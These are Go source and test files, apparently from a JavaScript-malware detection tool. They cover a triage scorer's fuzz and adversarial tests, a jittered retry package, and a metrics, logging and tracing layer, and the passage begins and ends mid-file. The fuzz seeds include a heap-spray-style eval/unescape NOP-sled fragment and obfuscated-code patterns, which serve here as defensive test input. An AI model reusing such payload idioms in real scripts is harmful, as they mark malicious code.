		t.Errorf("concat seams = %d, want 6", sc.ConcatSplits)
	}
}

// TestScoreAllocFree pins the allocation-free contract: the scorer must be
// cheap enough to sit in front of every scan with no GC pressure.
func TestScoreAllocFree(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	src := strings.Repeat(benignSample, 8)
	if allocs := testing.AllocsPerRun(100, func() { s.Score(src) }); allocs != 0 {
		t.Errorf("Score allocates %.1f/op, want 0", allocs)
	}
}

func TestScoreDeterministic(t *testing.T) {
	s := New(Config{Threshold: DefaultThreshold})
	a, b := s.Score(benignSample), s.Score(benignSample)
	if a != b {
		t.Errorf("scores differ across runs: %+v vs %+v", a, b)
	}
}
