package triage

import (
	"math"
	"strings"
	"testing"
	"time"
)

// FuzzTriage pins the scorer's robustness contract on arbitrary bytes: no
// panic, no unbounded loop (every byte is visited exactly once), a
// suspicion score inside [0, 1], determinism, and the MinBytes escalation
// floor. The scan engine calls Score before any validation, so this is the
// first code hostile input reaches.
func FuzzTriage(f *testing.F) {
	f.Add("")
	f.Add("var a = 1;")
	f.Add(`eval(unescape("%u9090%u9090"))`)
	f.Add(strings.Repeat("{", 2000))
	f.Add(strings.Repeat(`\x41`, 500))
	f.Add("\x00\x01\xfe\xff\"'`\\")
	f.Add(`"unterminated`)
	f.Add("id‮right_to_left")
	f.Add(strings.Repeat("_0x1a2b['\\x61'](", 100))

	s := New(Config{Threshold: DefaultThreshold})
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		sc := s.Score(src)
		if d := time.Since(start); d > 5*time.Second {
			t.Fatalf("Score took %v on %d bytes", d, len(src))
		}
		if sc.Suspicion < 0 || sc.Suspicion > 1 || math.IsNaN(sc.Suspicion) {
			t.Fatalf("suspicion %v out of [0,1]", sc.Suspicion)
		}
		want := len(src)
		if want > DefaultMaxBytes {
			want = DefaultMaxBytes
		}
		if sc.Bytes != want {
			t.Fatalf("scored %d bytes, want %d", sc.Bytes, want)
		}
		if sc != s.Score(src) {
			t.Fatal("non-deterministic score")
		}
		if len(src) < DefaultMinBytes && s.Clear(src) {
			t.Fatalf("cleared %d-byte input below MinBytes", len(src))
		}
	})
}
