package triage

import (
	"os"
	"path/filepath"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
)

// The adversarial suite pins the triage tier's one-sided error contract at
// the default threshold: everything the full pipeline must see — malicious
// corpus samples (pristine and in-the-wild transformed), all four
// evaluation obfuscators' outputs, and the parser-killing pathological
// corpus — escalates. Zero triage false negatives is the acceptance bar;
// a benign script escalating merely wastes microseconds.

func defaultScorer() *Scorer {
	return New(Config{Threshold: DefaultThreshold})
}

// TestMaliciousCorpusEscalates sweeps multiple corpus seeds, pristine and
// transformed: no malicious sample may clear.
func TestMaliciousCorpusEscalates(t *testing.T) {
	s := defaultScorer()
	for seed := int64(1); seed <= 8; seed++ {
		for _, pristine := range []bool{true, false} {
			samples := corpus.Generate(corpus.Config{Benign: 0, Malicious: 90, Seed: seed, Pristine: pristine})
			for i, smp := range samples {
				if s.Clear(smp.Source) {
					t.Errorf("seed=%d pristine=%v sample=%d family=%s transform=%q cleared: %+v",
						seed, pristine, i, smp.Family, smp.Transform, s.Score(smp.Source))
				}
			}
		}
	}
}

// TestObfuscatorOutputsEscalate feeds every corpus sample — benign and
// malicious — through each of the paper's four evaluation obfuscators: all
// outputs must escalate. Obfuscation is precisely the condition under which
// a lexical tier must not vouch for anything.
func TestObfuscatorOutputsEscalate(t *testing.T) {
	s := defaultScorer()
	samples := corpus.Generate(corpus.Config{Benign: 60, Malicious: 60, Seed: 5, Pristine: true})
	reg := obfuscate.Registry(17)
	for _, name := range obfuscate.PaperOrder() {
		ob, ok := reg[name]
		if !ok {
			t.Fatalf("obfuscator %q missing from registry", name)
		}
		for i, smp := range samples {
			out, err := ob.Obfuscate(smp.Source)
			if err != nil {
				t.Fatalf("%s: obfuscate sample %d: %v", name, i, err)
			}
			if s.Clear(out) {
				t.Errorf("%s output of sample %d (family=%s malicious=%v) cleared: %+v",
					name, i, smp.Family, smp.Malicious, s.Score(out))
			}
		}
	}
}

// TestPathologicalCorpusEscalates: every parser-killing sample in the
// shared pathological corpus must reach the full pipeline's guards, not be
// cleared by a tier with no recursion limits to protect.
func TestPathologicalCorpusEscalates(t *testing.T) {
	s := defaultScorer()
	dir := filepath.Join("..", "js", "parser", "testdata", "pathological")
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(ents) == 0 {
		t.Fatal("pathological corpus is empty")
	}
	for _, e := range ents {
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if s.Clear(string(b)) {
			t.Errorf("%s cleared: %+v", e.Name(), s.Score(string(b)))
		}
	}
}

// TestFuzzCorpusEscalates runs the parser fuzz corpus seeds (shared crash
// regressions) through Clear: none may be vouched for.
func TestFuzzCorpusEscalates(t *testing.T) {
	s := defaultScorer()
	dir := filepath.Join("..", "js", "parser", "testdata", "fuzz")
	ents, err := os.ReadDir(dir)
	if err != nil {
		if os.IsNotExist(err) {
			t.Skip("no parser fuzz corpus checked in")
		}
		t.Fatal(err)
	}
	for _, e := range ents {
		if e.IsDir() {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if s.Clear(string(b)) {
			t.Errorf("fuzz seed %s cleared: %+v", e.Name(), s.Score(string(b)))
		}
	}
}

// TestBenignClearRate pins the reason triage exists: the pristine benign
// corpus must overwhelmingly clear at the default threshold. The bound is
// deliberately loose (80%) so honest retuning has headroom; the measured
// rate is logged for EXPERIMENTS.md.
func TestBenignClearRate(t *testing.T) {
	s := defaultScorer()
	samples := corpus.Generate(corpus.Config{Benign: 200, Malicious: 0, Seed: 9, Pristine: true})
	cleared := 0
	for _, smp := range samples {
		if s.Clear(smp.Source) {
			cleared++
		}
	}
	rate := float64(cleared) / float64(len(samples))
	t.Logf("pristine benign clear rate at %.2f: %.1f%%", DefaultThreshold, 100*rate)
	if rate < 0.80 {
		t.Errorf("clear rate %.2f too low: triage would escalate everything", rate)
	}
}
