package retry

import (
	"context"
	"errors"
	"math"
	"testing"
	"time"
)

func TestCeilGrowsAndCaps(t *testing.T) {
	p := Policy{Base: 100 * time.Millisecond, Cap: 1 * time.Second, Factor: 2}
	want := []time.Duration{
		100 * time.Millisecond, // attempt 0
		200 * time.Millisecond,
		400 * time.Millisecond,
		800 * time.Millisecond,
		1 * time.Second, // capped
		1 * time.Second,
	}
	for a, w := range want {
		if got := p.Ceil(a); got != w {
			t.Errorf("Ceil(%d) = %v, want %v", a, got, w)
		}
	}
	if got := p.Ceil(-3); got != 100*time.Millisecond {
		t.Errorf("Ceil(-3) = %v, want base", got)
	}
	// Huge attempt counts must not overflow into negative durations.
	if got := p.Ceil(10_000); got != time.Second {
		t.Errorf("Ceil(10000) = %v, want cap", got)
	}
}

func TestZeroValueDefaults(t *testing.T) {
	var p Policy
	if got := p.Ceil(0); got != DefaultBase {
		t.Errorf("zero-value Ceil(0) = %v, want %v", got, DefaultBase)
	}
	if got := p.Ceil(1 << 20); got != DefaultCap {
		t.Errorf("zero-value Ceil(big) = %v, want %v", got, DefaultCap)
	}
}

func TestDelayFullJitter(t *testing.T) {
	// A pinned Rand makes the draw deterministic: delay = r·ceil.
	p := Policy{Base: time.Second, Cap: time.Minute, Factor: 2,
		Rand: func() float64 { return 0.5 }}
	if got := p.Delay(0); got != 500*time.Millisecond {
		t.Errorf("Delay(0) at r=0.5 = %v, want 500ms", got)
	}
	if got := p.Delay(2); got != 2*time.Second {
		t.Errorf("Delay(2) at r=0.5 = %v, want 2s", got)
	}
	p.Rand = func() float64 { return 0 }
	if got := p.Delay(5); got != 0 {
		t.Errorf("Delay at r=0 = %v, want 0", got)
	}
	// Default randomness stays within [0, ceil].
	d := Policy{Base: 10 * time.Millisecond}.Delay(3)
	if d < 0 || d > 80*time.Millisecond {
		t.Errorf("jittered delay %v outside [0, 80ms]", d)
	}
}

func TestSleepHonorsContext(t *testing.T) {
	p := Policy{Base: time.Hour, Cap: time.Hour,
		Rand: func() float64 { return 0.999 }}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Sleep(ctx, 0) }()
	cancel()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Errorf("Sleep after cancel = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Sleep did not return after cancellation")
	}

	// A zero draw still reports an already-dead context.
	p.Rand = func() float64 { return 0 }
	if err := p.Sleep(ctx, 0); !errors.Is(err, context.Canceled) {
		t.Errorf("Sleep with zero delay on dead ctx = %v", err)
	}
}

func TestDoRetriesUntilSuccess(t *testing.T) {
	p := Policy{Base: time.Microsecond, Cap: time.Microsecond}
	calls := 0
	err := p.Do(context.Background(), 5, func() error {
		calls++
		if calls < 3 {
			return errors.New("transient")
		}
		return nil
	})
	if err != nil || calls != 3 {
		t.Errorf("Do = %v after %d calls, want nil after 3", err, calls)
	}
}

func TestDoExhaustsBudget(t *testing.T) {
	p := Policy{Base: time.Microsecond, Cap: time.Microsecond}
	sentinel := errors.New("poisoned")
	calls := 0
	err := p.Do(context.Background(), 4, func() error { calls++; return sentinel })
	if !errors.Is(err, sentinel) || calls != 4 {
		t.Errorf("Do = %v after %d calls, want sentinel after 4", err, calls)
	}
	// attempts < 1 still runs once.
	calls = 0
	if err := p.Do(context.Background(), 0, func() error { calls++; return nil }); err != nil || calls != 1 {
		t.Errorf("Do(0 attempts) = %v after %d calls", err, calls)
	}
}

func TestDoStopsOnContext(t *testing.T) {
	p := Policy{Base: time.Hour, Cap: time.Hour, Rand: func() float64 { return 1 - 1e-9 }}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	calls := 0
	err := p.Do(ctx, 3, func() error { calls++; return errors.New("x") })
	if !errors.Is(err, context.Canceled) || calls != 1 {
		t.Errorf("Do on dead ctx = %v after %d calls, want Canceled after 1", err, calls)
	}
}

func TestDelayDistributionStaysBounded(t *testing.T) {
	// Sanity over many draws with the real randomness source: never
	// negative, never above the ceiling, and not all identical (jitter is
	// actually happening).
	p := Policy{Base: time.Millisecond, Cap: 8 * time.Millisecond}
	seen := map[time.Duration]bool{}
	for i := 0; i < 500; i++ {
		d := p.Delay(2)
		if d < 0 || d > 4*time.Millisecond {
			t.Fatalf("draw %d: delay %v outside [0, 4ms]", i, d)
		}
		seen[d] = true
	}
	if len(seen) < 10 {
		t.Errorf("only %d distinct delays over 500 draws; jitter looks broken", len(seen))
	}
	if math.Abs(float64(Policy{}.withDefaults().Factor)-2) > 1e-9 {
		t.Error("default factor is not 2")
	}
}
