// Package retry provides capped exponential backoff with full jitter — the
// retry schedule shared by the durable job queue and any other subsystem
// that re-attempts failed work.
//
// The policy follows the "full jitter" strategy (AWS architecture blog,
// also used by gRPC): the delay before attempt n is drawn uniformly from
// [0, min(Cap, Base·Factor^n)]. Full jitter decorrelates retrying clients,
// so a thundering herd created by one outage does not re-synchronize on
// every backoff step; the cap bounds the worst-case wait so a long outage
// never pushes retries out indefinitely.
//
// All methods are safe for concurrent use: Policy is an immutable value and
// the default randomness source is math/rand's lock-protected global.
package retry

import (
	"context"
	"math"
	"math/rand"
	"time"
)

// Defaults substituted for Policy zero values.
const (
	// DefaultBase is the backoff ceiling before the first retry.
	DefaultBase = 100 * time.Millisecond
	// DefaultCap bounds any single backoff delay.
	DefaultCap = 30 * time.Second
	// DefaultFactor doubles the ceiling each attempt.
	DefaultFactor = 2.0
)

// Policy is a capped exponential backoff schedule with full jitter. The
// zero value is usable and backs off 100ms·2^attempt, capped at 30s.
type Policy struct {
	// Base is the backoff ceiling before the first retry (attempt 0);
	// <= 0 selects DefaultBase.
	Base time.Duration
	// Cap bounds every delay regardless of attempt; <= 0 selects
	// DefaultCap.
	Cap time.Duration
	// Factor is the per-attempt ceiling growth; < 1 selects DefaultFactor.
	Factor float64
	// Rand returns a uniform value in [0, 1) for jitter; nil selects
	// math/rand.Float64. Tests inject deterministic sources here.
	Rand func() float64
}

func (p Policy) withDefaults() Policy {
	if p.Base <= 0 {
		p.Base = DefaultBase
	}
	if p.Cap <= 0 {
		p.Cap = DefaultCap
	}
	if p.Factor < 1 {
		p.Factor = DefaultFactor
	}
	if p.Rand == nil {
		p.Rand = rand.Float64
	}
	return p
}

// Ceil returns the un-jittered backoff ceiling for attempt (0-based):
// min(Cap, Base·Factor^attempt). Negative attempts are treated as 0.
func (p Policy) Ceil(attempt int) time.Duration {
	p = p.withDefaults()
	if attempt < 0 {
		attempt = 0
	}
	// Factor^attempt overflows float64 fast; once the ceiling passes Cap
	// the exact value no longer matters.
	d := float64(p.Base) * math.Pow(p.Factor, float64(attempt))
	if d >= float64(p.Cap) || math.IsInf(d, 1) || math.IsNaN(d) {
		return p.Cap
	}
	return time.Duration(d)
}

// Delay returns the jittered delay before attempt (0-based): a uniform
// draw from [0, Ceil(attempt)].
func (p Policy) Delay(attempt int) time.Duration {
	p = p.withDefaults()
	return time.Duration(p.Rand() * float64(p.Ceil(attempt)))
}

// Sleep blocks for Delay(attempt) or until ctx is done, returning ctx.Err()
// in the latter case. It is the building block for inline retry loops that
// must stay responsive to cancellation.
func (p Policy) Sleep(ctx context.Context, attempt int) error {
	d := p.Delay(attempt)
	if d <= 0 {
		// Still honor an already-cancelled context on a zero draw.
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

// Do runs fn up to attempts times, sleeping the policy's jittered delay
// between failures. It returns nil on the first success, ctx.Err() when the
// context ends first, and the last failure's error when the budget runs
// out. attempts < 1 is treated as 1.
func (p Policy) Do(ctx context.Context, attempts int, fn func() error) error {
	if attempts < 1 {
		attempts = 1
	}
	var err error
	for a := 0; a < attempts; a++ {
		if err = fn(); err == nil {
			return nil
		}
		if a == attempts-1 {
			break
		}
		if serr := p.Sleep(ctx, a); serr != nil {
			return serr
		}
	}
	return err
}
