package obs

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Level orders log severities.
type Level int32

const (
	LevelDebug Level = iota
	LevelInfo
	LevelWarn
	LevelError
	// LevelOff disables all output.
	LevelOff
)

// String renders the level the way it appears in emitted events.
func (l Level) String() string {
	switch l {
	case LevelDebug:
		return "debug"
	case LevelInfo:
		return "info"
	case LevelWarn:
		return "warn"
	case LevelError:
		return "error"
	case LevelOff:
		return "off"
	default:
		return fmt.Sprintf("level(%d)", int(l))
	}
}

// ParseLevel maps a level name ("debug", "info", "warn", "error", "off")
// onto its Level.
func ParseLevel(s string) (Level, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "debug":
		return LevelDebug, nil
	case "info":
		return LevelInfo, nil
	case "warn", "warning":
		return LevelWarn, nil
	case "error":
		return LevelError, nil
	case "off", "none":
		return LevelOff, nil
	}
	return LevelInfo, fmt.Errorf("obs: unknown log level %q", s)
}

// Logger emits one JSON object per event: {"ts", "level", "event", ...kv},
// plus "trace_id"/"span_id" when logging through a context that carries a
// span. It is safe for concurrent use; each event is a single Write so
// lines never interleave.
type Logger struct {
	mu    sync.Mutex
	w     io.Writer
	level atomic.Int32
}

// NewLogger builds a logger writing to w at the given minimum level.
func NewLogger(w io.Writer, level Level) *Logger {
	l := &Logger{w: w}
	l.level.Store(int32(level))
	return l
}

var defaultLogger atomic.Pointer[Logger]

func init() {
	defaultLogger.Store(NewLogger(os.Stderr, LevelWarn))
}

// DefaultLogger returns the process-wide logger (stderr at warn unless
// replaced with SetDefaultLogger).
func DefaultLogger() *Logger { return defaultLogger.Load() }

// SetDefaultLogger replaces the process-wide logger; nil is ignored.
func SetDefaultLogger(l *Logger) {
	if l != nil {
		defaultLogger.Store(l)
	}
}

// SetLevel changes the minimum emitted level.
func (l *Logger) SetLevel(level Level) { l.level.Store(int32(level)) }

// Enabled reports whether events at level would be emitted.
func (l *Logger) Enabled(level Level) bool { return level >= Level(l.level.Load()) }

// Event emits one structured event with alternating key/value pairs.
// Non-string keys are stringified; a trailing key without a value gets
// "(MISSING)". ctx may be nil; when it carries a span, trace_id and
// span_id are attached for correlation.
func (l *Logger) Event(ctx context.Context, level Level, event string, kv ...any) {
	if l == nil || !l.Enabled(level) {
		return
	}
	fields := map[string]any{
		"ts":    time.Now().UTC().Format(time.RFC3339Nano),
		"level": level.String(),
		"event": event,
	}
	// IDs are emitted as hex strings, never JSON numbers: a uint64 span ID
	// above 2^53 would silently lose precision through any float64-decoding
	// consumer, and the hex forms match traceparent and /debug/traces.
	if sp := SpanFromContext(ctx); sp != nil {
		fields["trace_id"] = sp.TraceID.String()
		fields["span_id"] = FormatSpanID(sp.SpanID)
	}
	for i := 0; i < len(kv); i += 2 {
		key, ok := kv[i].(string)
		if !ok {
			key = fmt.Sprint(kv[i])
		}
		if i+1 < len(kv) {
			fields[key] = jsonSafe(kv[i+1])
		} else {
			fields[key] = "(MISSING)"
		}
	}
	line, err := json.Marshal(fields)
	if err != nil {
		line = []byte(fmt.Sprintf(`{"level":%q,"event":%q,"log_error":%q}`,
			level.String(), event, err.Error()))
	}
	line = append(line, '\n')
	l.mu.Lock()
	l.w.Write(line)
	l.mu.Unlock()
}

// jsonSafe converts values json.Marshal would reject (errors, durations as
// opaque types are fine, but error interfaces marshal to {}) into strings.
func jsonSafe(v any) any {
	switch x := v.(type) {
	case error:
		return x.Error()
	case time.Duration:
		return x.String()
	default:
		return v
	}
}

// Debug emits a debug event without span correlation.
func (l *Logger) Debug(event string, kv ...any) { l.Event(nil, LevelDebug, event, kv...) }

// Info emits an info event without span correlation.
func (l *Logger) Info(event string, kv ...any) { l.Event(nil, LevelInfo, event, kv...) }

// Warn emits a warn event without span correlation.
func (l *Logger) Warn(event string, kv ...any) { l.Event(nil, LevelWarn, event, kv...) }

// Error emits an error event without span correlation.
func (l *Logger) Error(event string, kv ...any) { l.Event(nil, LevelError, event, kv...) }
