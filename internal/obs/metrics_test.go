package obs

import (
	"math"
	"sync"
	"testing"
	"time"
)

func TestCounter(t *testing.T) {
	var c Counter
	c.Inc()
	c.Add(4)
	c.Add(-10) // ignored: counters are monotone
	if got := c.Value(); got != 5 {
		t.Errorf("counter = %d, want 5", got)
	}
}

func TestGauge(t *testing.T) {
	var g Gauge
	g.Set(2.5)
	g.Add(1.5)
	g.Dec()
	if got := g.Value(); got != 3 {
		t.Errorf("gauge = %v, want 3", got)
	}
	g.Add(-5)
	if got := g.Value(); got != -2 {
		t.Errorf("gauge = %v, want -2", got)
	}
}

func TestHistogramBuckets(t *testing.T) {
	h := newHistogram([]float64{1, 2, 5})
	for _, v := range []float64{0.5, 1, 1.5, 2, 3, 10, math.NaN()} {
		h.Observe(v)
	}
	if got := h.Count(); got != 6 {
		t.Fatalf("count = %d, want 6 (NaN dropped)", got)
	}
	if got, want := h.Sum(), 0.5+1+1.5+2+3+10; math.Abs(got-want) > 1e-9 {
		t.Errorf("sum = %v, want %v", got, want)
	}
	// Upper bounds are inclusive: 1 lands in le=1, 2 in le=2.
	want := []uint64{2, 2, 1, 1}
	got := h.BucketCounts()
	if len(got) != len(want) {
		t.Fatalf("bucket count = %d, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("bucket[%d] = %d, want %d", i, got[i], want[i])
		}
	}
}

func TestHistogramBoundsSanitized(t *testing.T) {
	h := newHistogram([]float64{5, 1, 1, math.Inf(1), math.NaN(), 2})
	want := []float64{1, 2, 5}
	got := h.Bounds()
	if len(got) != len(want) {
		t.Fatalf("bounds = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("bounds = %v, want %v", got, want)
		}
	}
}

func TestHistogramQuantile(t *testing.T) {
	h := newHistogram([]float64{10, 20, 30, 40})
	// 40 uniform observations, 10 per bucket.
	for b := 0; b < 4; b++ {
		for i := 0; i < 10; i++ {
			h.Observe(float64(b*10) + 5)
		}
	}
	cases := []struct{ q, want float64 }{
		{0.25, 10}, // rank 10 sits exactly at the first bucket's upper edge
		{0.5, 20},
		{0.75, 30},
		{1.0, 40},
		{0.125, 5}, // rank 5: halfway through [0,10)
	}
	for _, c := range cases {
		if got := h.Quantile(c.q); math.Abs(got-c.want) > 1e-9 {
			t.Errorf("Quantile(%v) = %v, want %v", c.q, got, c.want)
		}
	}
}

func TestHistogramQuantileEdges(t *testing.T) {
	h := newHistogram([]float64{1, 2})
	if got := h.Quantile(0.5); !math.IsNaN(got) {
		t.Errorf("empty histogram quantile = %v, want NaN", got)
	}
	h.Observe(100) // +Inf bucket only
	if got := h.Quantile(0.5); got != 2 {
		t.Errorf("+Inf-bucket quantile = %v, want clamp to 2", got)
	}
	if got := h.Quantile(-0.1); !math.IsNaN(got) {
		t.Errorf("out-of-range quantile = %v, want NaN", got)
	}
	if got := h.Quantile(1.1); !math.IsNaN(got) {
		t.Errorf("out-of-range quantile = %v, want NaN", got)
	}
}

func TestHistogramObserveDuration(t *testing.T) {
	h := newHistogram(DefDurationBuckets)
	h.ObserveDuration(250 * time.Millisecond)
	if got := h.Sum(); math.Abs(got-0.25) > 1e-9 {
		t.Errorf("sum = %v, want 0.25", got)
	}
}

func TestHistogramConcurrent(t *testing.T) {
	h := newHistogram([]float64{1, 2, 3})
	const goroutines, per = 8, 1000
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < per; i++ {
				h.Observe(float64(g % 4))
			}
		}(g)
	}
	wg.Wait()
	if got := h.Count(); got != goroutines*per {
		t.Errorf("count = %d, want %d", got, goroutines*per)
	}
	var sum uint64
	for _, c := range h.BucketCounts() {
		sum += c
	}
	if sum != goroutines*per {
		t.Errorf("bucket total = %d, want %d", sum, goroutines*per)
	}
}
