package obs

import (
	"context"
	"sync"
	"testing"
)

func TestSpanNesting(t *testing.T) {
	r := NewRegistry()
	ctx := WithRegistry(context.Background(), r)

	ctx1, root := StartSpan(ctx, "detect")
	if root.TraceID.IsZero() || root.ParentID != 0 {
		t.Errorf("root span ids wrong: %+v", root)
	}
	ctx2, child := StartSpan(ctx1, "parse")
	if child.TraceID != root.TraceID {
		t.Errorf("child trace %d != root trace %d", child.TraceID, root.TraceID)
	}
	if child.ParentID != root.SpanID {
		t.Errorf("child parent %d != root span %d", child.ParentID, root.SpanID)
	}
	_, grand := StartSpan(ctx2, "lex")
	if grand.TraceID != root.TraceID || grand.ParentID != child.SpanID {
		t.Errorf("grandchild ids wrong: %+v", grand)
	}
	if SpanFromContext(ctx2) != child {
		t.Error("SpanFromContext did not return innermost span")
	}

	grand.End()
	child.End()
	if d := root.End(); d < 0 {
		t.Errorf("root duration = %v", d)
	}
	h := r.Histogram(SpanDurationMetric, "", nil, Labels{"span": "detect"})
	if h.Count() != 1 {
		t.Errorf("detect span histogram count = %d, want 1", h.Count())
	}
	if got := r.Histogram(SpanDurationMetric, "", nil, Labels{"span": "lex"}).Count(); got != 1 {
		t.Errorf("lex span histogram count = %d, want 1", got)
	}
}

func TestSpanNilSafety(t *testing.T) {
	var s *Span
	if s.End() != 0 || s.Elapsed() != 0 {
		t.Error("nil span methods not no-ops")
	}
	if SpanFromContext(nil) != nil {
		t.Error("SpanFromContext(nil) != nil")
	}
	ctx, sp := StartSpan(nil, "orphan")
	if sp == nil || SpanFromContext(ctx) != sp {
		t.Error("StartSpan(nil, ...) did not synthesize a context")
	}
	sp.End()
}

// TestSpanConcurrent exercises parallel span trees against one registry —
// run under -race this verifies the span/registry path is data-race free.
func TestSpanConcurrent(t *testing.T) {
	r := NewRegistry()
	base := WithRegistry(context.Background(), r)
	var wg sync.WaitGroup
	const goroutines, per = 8, 200
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < per; i++ {
				ctx, root := StartSpan(base, "outer")
				_, inner := StartSpan(ctx, "inner")
				if inner.TraceID != root.TraceID {
					t.Error("trace id not inherited")
					// keep ending spans so counts still reconcile
				}
				inner.End()
				root.End()
			}
		}()
	}
	wg.Wait()
	for _, name := range []string{"outer", "inner"} {
		if got := r.Histogram(SpanDurationMetric, "", nil, Labels{"span": name}).Count(); got != goroutines*per {
			t.Errorf("span %q count = %d, want %d", name, got, goroutines*per)
		}
	}
}
