// Package obs is the pipeline-wide observability layer: a concurrent-safe
// metrics registry (counters, gauges, fixed-bucket histograms) with
// Prometheus text-format exposition and JSON snapshots, lightweight trace
// spans threaded through context.Context, a leveled structured JSON logger,
// and pprof profiling helpers.
//
// The package is dependency-free by design (stdlib only) so every layer of
// the pipeline — lexer to scan engine to CLI — can instrument itself
// without pulling a metrics SDK into the module. Instruments are cheap:
// counters and gauges are single atomics, histogram observation is one
// binary search plus three atomic adds, and instrument lookup is a
// read-locked map hit (callers on hot paths should still cache the
// returned instrument pointer).
package obs

import (
	"math"
	"sort"
	"sync/atomic"
	"time"
)

// Labels attaches dimensions to an instrument. Instruments with the same
// name but different label values are distinct series within one metric
// family; the family's help text and kind are shared.
type Labels map[string]string

// clone returns a defensive copy so callers cannot mutate a registered
// series' identity after the fact.
func (l Labels) clone() Labels {
	if len(l) == 0 {
		return nil
	}
	out := make(Labels, len(l))
	for k, v := range l {
		out[k] = v
	}
	return out
}

// Counter is a monotonically increasing count. All methods are safe for
// concurrent use.
type Counter struct {
	v atomic.Int64
}

// Inc adds one.
func (c *Counter) Inc() { c.v.Add(1) }

// Add increases the counter by n; negative deltas are ignored so the
// counter stays monotone.
func (c *Counter) Add(n int64) {
	if n > 0 {
		c.v.Add(n)
	}
}

// Value returns the current count.
func (c *Counter) Value() int64 { return c.v.Load() }

// Gauge is a float64 value that can go up and down. All methods are safe
// for concurrent use.
type Gauge struct {
	bits atomic.Uint64
}

// Set replaces the gauge's value.
func (g *Gauge) Set(v float64) { g.bits.Store(math.Float64bits(v)) }

// Add shifts the gauge by delta (which may be negative).
func (g *Gauge) Add(delta float64) {
	for {
		old := g.bits.Load()
		nv := math.Float64bits(math.Float64frombits(old) + delta)
		if g.bits.CompareAndSwap(old, nv) {
			return
		}
	}
}

// Inc adds one.
func (g *Gauge) Inc() { g.Add(1) }

// Dec subtracts one.
func (g *Gauge) Dec() { g.Add(-1) }

// Value returns the current value.
func (g *Gauge) Value() float64 { return math.Float64frombits(g.bits.Load()) }

// Histogram is a fixed-bucket histogram in the Prometheus style: bounds are
// inclusive upper bounds, with an implicit +Inf bucket at the end. All
// methods are safe for concurrent use; reads taken during concurrent
// observation are approximate (count, sum, and buckets are not snapshotted
// atomically together), which is the standard trade-off for lock-free
// observation.
type Histogram struct {
	bounds  []float64 // sorted inclusive upper bounds, excluding +Inf
	buckets []atomic.Uint64
	count   atomic.Uint64
	sumBits atomic.Uint64
}

// DefDurationBuckets spans 100µs to 30s, the range of per-stage and
// per-file latencies the pipeline produces (sub-millisecond embedding up to
// the scan engine's 10s default deadline).
var DefDurationBuckets = []float64{
	0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05,
	0.1, 0.25, 0.5, 1, 2.5, 5, 10, 30,
}

// DefSizeBuckets spans 256B to 16MB in powers of four, matching the scan
// engine's 10MB default size cap.
var DefSizeBuckets = []float64{
	256, 1024, 4096, 16384, 65536, 262144, 1048576, 4194304, 16777216,
}

func newHistogram(bounds []float64) *Histogram {
	bs := make([]float64, len(bounds))
	copy(bs, bounds)
	sort.Float64s(bs)
	// Drop duplicates and non-finite bounds; +Inf is implicit.
	kept := bs[:0]
	for i, b := range bs {
		if math.IsNaN(b) || math.IsInf(b, 0) {
			continue
		}
		if i > 0 && len(kept) > 0 && kept[len(kept)-1] == b {
			continue
		}
		kept = append(kept, b)
	}
	return &Histogram{bounds: kept, buckets: make([]atomic.Uint64, len(kept)+1)}
}

// Observe records one value. NaN observations are dropped.
func (h *Histogram) Observe(v float64) {
	if math.IsNaN(v) {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v)
	h.buckets[i].Add(1)
	h.count.Add(1)
	for {
		old := h.sumBits.Load()
		nv := math.Float64bits(math.Float64frombits(old) + v)
		if h.sumBits.CompareAndSwap(old, nv) {
			return
		}
	}
}

// ObserveDuration records a duration in seconds, the Prometheus base unit.
func (h *Histogram) ObserveDuration(d time.Duration) { h.Observe(d.Seconds()) }

// Count returns the number of observations.
func (h *Histogram) Count() uint64 { return h.count.Load() }

// Sum returns the sum of observed values.
func (h *Histogram) Sum() float64 { return math.Float64frombits(h.sumBits.Load()) }

// Bounds returns the finite upper bounds (the +Inf bucket is implicit).
func (h *Histogram) Bounds() []float64 {
	out := make([]float64, len(h.bounds))
	copy(out, h.bounds)
	return out
}

// BucketCounts returns per-bucket (non-cumulative) counts; the last entry
// is the +Inf bucket.
func (h *Histogram) BucketCounts() []uint64 {
	out := make([]uint64, len(h.buckets))
	for i := range h.buckets {
		out[i] = h.buckets[i].Load()
	}
	return out
}

// Quantile estimates the q-quantile (0 <= q <= 1) from the bucket counts
// with linear interpolation inside the chosen bucket — the same estimate a
// Prometheus histogram_quantile() gives. Values in the +Inf bucket clamp to
// the highest finite bound. It returns NaN when the histogram is empty or q
// is out of range.
func (h *Histogram) Quantile(q float64) float64 {
	if q < 0 || q > 1 || math.IsNaN(q) {
		return math.NaN()
	}
	counts := h.BucketCounts()
	var total uint64
	for _, c := range counts {
		total += c
	}
	if total == 0 {
		return math.NaN()
	}
	rank := q * float64(total)
	cum := 0.0
	for i, c := range counts {
		prev := cum
		cum += float64(c)
		if cum < rank || c == 0 {
			continue
		}
		if i == len(h.bounds) {
